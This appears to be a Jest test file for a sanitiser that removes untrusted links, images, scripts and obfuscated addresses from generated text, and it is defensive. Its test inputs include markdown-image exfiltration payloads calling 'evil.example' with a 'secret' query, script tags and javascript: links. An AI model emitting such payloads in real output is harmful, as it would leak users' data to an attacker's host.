import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { findUrls } from '#shared/evidence/find-urls.ts';
import { sanitiseOutput } from '#shared/evidence/sanitise-output.ts';

const allowed = [
  'https://www.service-public.fr/particuliers/vosdroits/F10252',
  'https://intranet.example/rh?p=1',
];

test.each([
  ['an image', 'Voir ![carte](https://evil.example/?d=secret) ici', 'Voir  ici'],
  ['an image by reference', 'Voir ![carte][x] ici', 'Voir  ici'],
  ['an unfinished image', 'Voir ![carte](https://evil.example/?d=se', 'Voir '],
  ['an HTML image', 'Voir <img src="https://evil.example/x.png"> ici', 'Voir  ici'],
  ['an HTML tag left open', 'Voir <img src="https://evil.example/x', 'Voir '],
  ['a script', 'Bonjour<script>alert(1)</script>', 'Bonjouralert(1)'],
  ['a comment', 'a<!-- cach\né -->b', 'ab'],
  ['a link', 'Voir [le site](https://evil.example/x "titre").', 'Voir le site.'],
  ['a script link', 'Voir [le site](javascript:alert(1)).', 'Voir le site).'],
  ['a reference', 'Voir [site].\n[site]: https://evil.example/x', 'Voir [site].\n'],
  ['an autolink', 'Voir <https://evil.example/x>', 'Voir '],
  ['a bare address', 'Voir https://evil.example/x?a=b, puis', 'Voir , puis'],
  ['an address without scheme', 'Voir www.evil.com/x ou evil.com', 'Voir  ou '],
  ['a disguised scheme', 'Voir hxxps://evil.example/x', 'Voir '],
  ['a spaced scheme', 'Voir h t t p s : //evil.example/x', 'Voir '],
  ['a disguised dot', 'Voir evil[.]com/x et evil (dot) com', 'Voir  et '],
  ['an e-mail address', 'Écrire à voleur@evil.com', 'Écrire à '],
  ['another scheme', 'ftp://evil.example/x et data:text/html,x', ' et '],
  ['an address hidden in tags', 'htt<b></b>ps://evil.example/x', ''],
  ['a look-alike with more behind', 'https://intranet.example/rh?p=1&d=secret', ''],
  ['a look-alike host', 'https://intranet.example.evil.com/rh?p=1', ''],
])('%s that is in no source does not come out', (_what, text, clean) => {
  expect(sanitiseOutput(text, allowed)).toBe(clean);
});

test.each([
  'Voir https://www.service-public.fr/particuliers/vosdroits/F10252.',
  'Voir [la fiche](https://intranet.example/rh?p=1).',
  'Voir service-public.fr pour la suite.',
  'Le taux est de 1.5 % (art. L. 621-1), soit x < 5 et y > 3.',
  'M. Roux, p. ex., suit le décret n° 85-1250.',
  '- **Durée** : 25 jours [1][2]',
  '| a | b |\n|---|---|',
  'Le C.G.C.T. et le p.v. du C.S.T. sont joints.',
])('what is in a source, and ordinary writing, stays: %s', (text) => {
  expect(sanitiseOutput(text, allowed)).toBe(text);
});

test('cleaning twice changes nothing more, and no address is left', () => {
  const piece = fc.constantFrom(
    'https://',
    'evil',
    '.com',
    '/x',
    '![',
    '](',
    ')',
    '<b>',
    '<',
    '>',
    'h',
    'ttp',
    's://',
    '[a](',
    'www.',
    ' ',
    '\n',
    'é',
    '@',
    '<!--',
    '-->',
    '[.]',
    'hxxp://',
    ':',
    '//',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
      const clean = sanitiseOutput(pieces.join(''), allowed);
      expect(sanitiseOutput(clean, allowed)).toBe(clean);
      expect(findUrls(clean)).toEqual([]);
    }),
    { numRuns: 500 },
  );
});
